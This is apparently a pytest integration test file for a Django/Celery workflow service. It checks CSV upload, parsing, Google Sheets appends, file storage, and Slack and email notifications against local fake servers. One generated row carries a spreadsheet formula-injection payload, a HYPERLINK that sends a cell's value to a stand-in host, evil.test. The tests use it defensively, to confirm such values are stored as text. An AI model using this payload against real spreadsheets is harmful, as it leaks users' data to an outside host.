"""Upload -> parse -> store -> notify with real processes: curl sends a multipart upload to the real
web server (gunicorn), the real Celery worker runs every step against the local peers, on local
disk and on S3 (moto). And a web process killed mid-upload leaves nothing once the pruner passed."""

import contextlib
import csv
import hashlib
import io
import json
import socket
import subprocess
from datetime import timedelta

import pytest
from django.db import transaction
from django.utils import timezone

from integrations.services import credential_create
from testing.network import (
    FakeGoogle,
    FakeSendGrid,
    FakeSlack,
    RecordingHTTPServer,
    Reply,
    SMTPServer,
    service_account_key,
    worker_network_guard_env,
)
from testing.web import start_web
from testing.worker import wait_for, wait_for_run
from workflows.models import FileState, Run, RunFile, RunTrigger, TriggerType
from workflows.ops import retention
from workflows.services import run_accept, workflow_create

pytestmark = pytest.mark.slow
SHEET = "1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgvE2upms"
CHANNEL = "C0123456789"


@pytest.fixture(scope="module")
def peers():
    servers = {"google": FakeGoogle().start(), "slack": FakeSlack().start(), "sendgrid": FakeSendGrid().start(),
               "smtp": SMTPServer().start(), "http": RecordingHTTPServer().start()}  # fmt: skip
    yield servers
    for server in servers.values():
        server.stop()


@pytest.fixture(scope="module")
def web(file_storage_env):
    server = start_web(file_storage_env)
    yield server
    server.stop()


@pytest.fixture
def celery_worker_env(peers, file_storage_env):
    return {
        **worker_network_guard_env(),
        **file_storage_env,
        "POTAFLOW_ALLOW_PRIVATE_DESTINATIONS": "127.0.0.1",
        "POTAFLOW_SLACK_API_URL": peers["slack"].api_url,
        "POTAFLOW_SENDGRID_API_URL": peers["sendgrid"].url,
        "POTAFLOW_GOOGLE_SHEETS_API_URL": peers["google"].sheets_url,
        "POTAFLOW_GOOGLE_DRIVE_API_URL": peers["google"].drive_url,
    }


@pytest.fixture
def stack(file_storage, celery_worker, web, peers, settings, fernet_keys):
    settings.POTAFLOW_ALLOW_PRIVATE_DESTINATIONS = ["127.0.0.1"]
    peers["google"].sheets[SHEET] = {"Rows": []}
    peers["google"].input_options.clear()  # how each row was sent: per test, like the rows
    for name in ("slack", "sendgrid", "http"):
        peers[name].reset()
    peers["slack"].files.clear()
    peers["sendgrid"].sent.clear()
    peers["smtp"].messages.clear()
    return {**peers, "web": web, "storage": file_storage}


def big_csv(target_bytes: int = 5 * 1024 * 1024) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(["id", "name", "email", "amount", "note"])
    writer.writerow([0, "Mallory", "m@evil.test", "1", '=HYPERLINK("http://evil.test/?"&A1,"open me")'])
    i = 1
    while out.tell() < target_bytes:
        writer.writerow([i, f"Customer {i}", f"c{i}@example.com", f"{i * 1.5:.2f}", "lorem ipsum dolor " * 10])
        i += 1
    return out.getvalue().encode()


def curl_upload(url: str, path, field: str = "upload") -> dict:
    done = subprocess.run(
        ["curl", "-sS", "--max-time", "60", "-F", f"{field}=@{path};type=text/csv", "-w", "\n%{http_code}", url],
        capture_output=True, check=True, timeout=90,
    )  # fmt: skip
    body, _, status = done.stdout.decode().rpartition("\n")
    return {"status": int(status), "body": body}


def test_a_5_mb_csv_is_parsed_appended_stored_posted_and_mailed(stack, organization, tmp_path):
    data = big_csv()
    rows = data.count(b"\n") - 1
    digest = hashlib.sha256(data).hexdigest()
    (tmp_path / "orders.csv").write_bytes(data)
    google = credential_create(organization=organization, name="g", kind="google_service_account",
                               secret={"key": service_account_key(stack["google"].token_uri)})  # fmt: skip
    slack = credential_create(organization=organization, name="s", kind="slack_bot_token",
                              secret={"token": "xoxb-test-token"})  # fmt: skip
    sendgrid = credential_create(organization=organization, name="sg", kind="sendgrid_api_key",
                                 secret={"api_key": "SG.test-key", "from_email": "robot@acme.test"})  # fmt: skip
    smtp = credential_create(organization=organization, name="m", kind="smtp", secret={
        "host": "127.0.0.1", "port": stack["smtp"].port, "username": "mailer", "password": "s3cret",
        "security": "none", "from_email": "robot@acme.test"})  # fmt: skip
    upload = "{{ trigger.files.upload }}"
    mail = {"to": "ops@acme.test", "subject": "{{ trigger.files.upload.name }}", "text": "attached",
            "attachments": [upload]}  # fmt: skip
    wf = workflow_create(organization=organization, name="Upload a CSV", trigger_type=TriggerType.WEBHOOK, steps=[
        {"key": "parse", "action_type": "file.parse", "config": {"file": upload}},
        {"key": "sheet", "action_type": "sheets.append_row", "credential": google.pk,
         "config": {"spreadsheet": SHEET, "worksheet": "Rows", "rows": "{{ steps.parse.output.rows }}",
                    "columns": "{{ steps.parse.output.columns }}", "value_input_option": "USER_ENTERED"}},
        {"key": "store", "action_type": "file.store", "config": {"file": upload, "path": "csv/{{ run.id }}.csv"}},
        {"key": "notify", "action_type": "slack.message", "credential": slack.pk,
         "config": {"channel": CHANNEL, "text": "{{ steps.parse.output.row_count }} rows", "file": upload}},
        {"key": "sendgrid", "action_type": "email.send", "credential": sendgrid.pk, "config": mail},
        {"key": "smtp", "action_type": "email.send", "credential": smtp.pk, "config": mail},
    ])  # fmt: skip

    answer = curl_upload(f"{stack['web'].url}/hooks/{wf.webhook_token}", tmp_path / "orders.csv")
    assert answer["status"] == 202, answer
    run = wait_for_run(json.loads(answer["body"])["run_id"], {"succeeded", "failed"}, timeout=120)
    assert run.status == "succeeded", list(run.step_runs.values("key", "error"))
    assert run.payload["files"]["upload"]["sha256"] == digest

    cells = stack["google"].cells(SHEET, "Rows")
    assert len(cells) == rows and cells[0][4] == ("text", '=HYPERLINK("http://evil.test/?"&A1,"open me")')
    stored = run.step_runs.get(key="store").output["location"]
    key = f"org-{organization.pk}/stored/csv/{run.pk}.csv"
    assert stored.endswith(key) and hashlib.sha256(stack["storage"].objects()[key]).hexdigest() == digest
    (posted,) = stack["slack"].files
    assert hashlib.sha256(posted["data"]).hexdigest() == digest and posted["comment"] == f"{rows} rows"
    ((name, _, sent),) = stack["sendgrid"].attachments()
    assert name == "orders.csv" and hashlib.sha256(sent).hexdigest() == digest
    (message,) = stack["smtp"].messages
    ((name, _, received),) = message.attachments()
    assert name == "orders.csv" and hashlib.sha256(received).hexdigest() == digest


def test_http_downloads_a_file_and_a_later_step_uploads_it_byte_identical(stack, organization):
    blob = bytes(range(256)) * 4096  # 1 MiB, every byte value
    http = stack["http"]
    http.route("GET", "/exports/archive.bin", Reply(200, blob, {"Content-Type": "application/octet-stream"}))
    http.route("POST", "/inbox", Reply(201, {"stored": True}))
    wf = workflow_create(organization=organization, name="Relay", trigger_type=TriggerType.WEBHOOK, steps=[
        {"key": "download", "action_type": "http.request",
         "config": {"url": f"{http.url}/exports/archive.bin", "save_response_as_file": True}},
        {"key": "upload", "action_type": "http.request",
         "config": {"method": "POST", "url": f"{http.url}/inbox", "body_type": "multipart",
                    "files": {"document": "{{ steps.download.output.file }}"}}},
    ])  # fmt: skip
    hook = stack["web"].url + f"/hooks/{wf.webhook_token}"
    done = subprocess.run(["curl", "-sS", "-X", "POST", "-H", "Content-Type: application/json", "-d", "{}", hook],
                          capture_output=True, check=True)  # fmt: skip
    run = wait_for_run(json.loads(done.stdout)["run_id"], {"succeeded", "failed"}, timeout=60)
    assert run.status == "succeeded", list(run.step_runs.values("key", "error"))
    ref = run.step_runs.get(key="download").output["file"]
    sent = next(r for r in http.requests if r.path == "/inbox").body
    start = sent.index(b"\r\n\r\n", sent.index(b'name="document"')) + 4
    assert sent[start : start + len(blob)] == blob and sent[start + len(blob) :].startswith(b"\r\n--")
    assert ref["sha256"] == hashlib.sha256(blob).hexdigest()
    assert RunFile.objects.get(pk=ref["id"]).run_id == run.pk  # a file of the run: deleted with it


class _RolledBack(Exception):  # noqa: N818 - a control-flow signal of the test, not an error
    pass


@pytest.mark.services  # holds a write transaction open while the web writes: SQLite has one writer at a time
def test_a_web_process_killed_mid_upload_leaves_no_orphan_after_the_pruner(file_storage, file_storage_env,
                                                                          organization, transactional_db):  # fmt: skip
    """Killed at the two moments an upload can be in: still arriving (the web server's front holds it, nothing
    is written yet) and being written by the application (its rows 'uploading', its bytes in the storage)."""
    wf = workflow_create(organization=organization, name="Killed", trigger_type=TriggerType.WEBHOOK)
    server = start_web(file_storage_env)
    boundary = "b0undary"
    size = 8 * 1024 * 1024
    head = (f'--{boundary}\r\nContent-Disposition: form-data; name="upload"; filename="big.bin"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n").encode()  # fmt: skip
    tail = f"\r\n--{boundary}--\r\n".encode()
    request = (f"POST /hooks/{wf.webhook_token} HTTP/1.1\r\nHost: 127.0.0.1\r\n"
               f"Content-Type: multipart/form-data; boundary={boundary}\r\nIdempotency-Key: killed\r\n"
               f"Content-Length: {len(head) + size + len(tail)}\r\n\r\n").encode()  # fmt: skip
    arriving = socket.create_connection(("127.0.0.1", server.port), timeout=10)
    written = socket.create_connection(("127.0.0.1", server.port), timeout=10)
    try:
        arriving.sendall(request + head + b"a" * (1024 * 1024))  # 1 of its 8 MiB: the front holds it
        with contextlib.suppress(_RolledBack), transaction.atomic():
            # The second request is written whole by the application, whose run's INSERT then waits on this
            # uncommitted run with its idempotency key (rolled back at the end: the application's would go on).
            run_accept(workflow=wf, trigger=RunTrigger.WEBHOOK, payload={}, idempotency_key="killed")
            written.sendall(request + head + b"x" * size + tail)
            row = wait_for(lambda: RunFile.objects.filter(state=FileState.UPLOADING, size=size).exclude(sha256="")
                           .first(), timeout=30, message="the upload written whole, its run not committed")  # fmt: skip
            if file_storage.kind == "local":
                assert len(file_storage.objects()) == 1
            server.kill()
            raise _RolledBack
    finally:
        arriving.close()
        written.close()
        server.stop()
    assert not Run.objects.exists()
    # Only the request that reached the application left anything: its file and its reservation, 'uploading'.
    assert set(RunFile.objects.values_list("state", flat=True)) == {FileState.UPLOADING}
    assert RunFile.objects.filter(pk=row.pk).exists() and RunFile.objects.exclude(name="big.bin").count() <= 1
    retention.prune()  # within the grace: a write in progress (its process may be alive) is left alone
    assert RunFile.objects.filter(pk=row.pk).exists()
    retention.prune(now=timezone.now() + timedelta(hours=2))  # the pruner's next pass, past the grace
    assert not RunFile.objects.exists()
    assert file_storage.objects() == {} and file_storage.open_multipart_uploads() == []


def test_the_csv_template_appends_each_row_and_posts_a_summary(stack, organization, tmp_path):
    """The built-in template "Upload a CSV → parse → append each row to Google Sheets → Slack
    summary" (issue 23, with issue 19's for_each), imported as a member would and run for real."""
    from workflows.portability import template, workflow_import

    (tmp_path / "people.csv").write_text(
        "name,email,amount\nAda,ada@acme.test,12\nGrace,grace@acme.test,=1+1\nLinus,linus@acme.test,7\n"
    )
    google = credential_create(organization=organization, name="google", kind="google_service_account",
                               secret={"key": service_account_key(stack["google"].token_uri)})  # fmt: skip
    credential_create(organization=organization, name="slack", kind="slack_bot_token",
                      secret={"token": "xoxb-test-token"})  # fmt: skip
    document = json.loads(json.dumps(template("csv-rows-to-sheets").document))
    append = document["steps"][1]["config"]["steps"][0]["config"]
    append.update(spreadsheet=SHEET, worksheet="Rows")  # what the template asks a member to set
    document["steps"][2]["config"]["channel"] = CHANNEL
    wf = workflow_import(organization=organization, document=document)
    assert wf.steps.get(key="rows").config["steps"][0]["credential"] == google.pk  # mapped by name and kind
    wf.is_active = True
    wf.save(update_fields=["is_active"])

    answer = curl_upload(f"{stack['web'].url}/hooks/{wf.webhook_token}", tmp_path / "people.csv", field="file")
    assert answer["status"] == 202, answer
    run = wait_for_run(json.loads(answer["body"])["run_id"], {"succeeded", "failed"}, timeout=120)
    assert run.status == "succeeded", list(run.step_runs.values("path", "status", "error"))
    # One instance per row, each with its own path; the rows arrive in order, a formula as text.
    assert sorted(run.step_runs.filter(key="append").values_list("path", flat=True)) == [
        "rows[0]/append", "rows[1]/append", "rows[2]/append",
    ]  # fmt: skip
    cells = stack["google"].cells(SHEET, "Rows")
    assert [row[0][1] for row in cells] == ["Ada", "Grace", "Linus"]
    assert cells[1][2][0] == "text"  # "=1+1" from an upload is not a formula
    (message,) = [m for m in stack["slack"].requests if m.path.endswith("chat.postMessage")]
    assert "Appended 3 rows" in json.dumps(message.json())
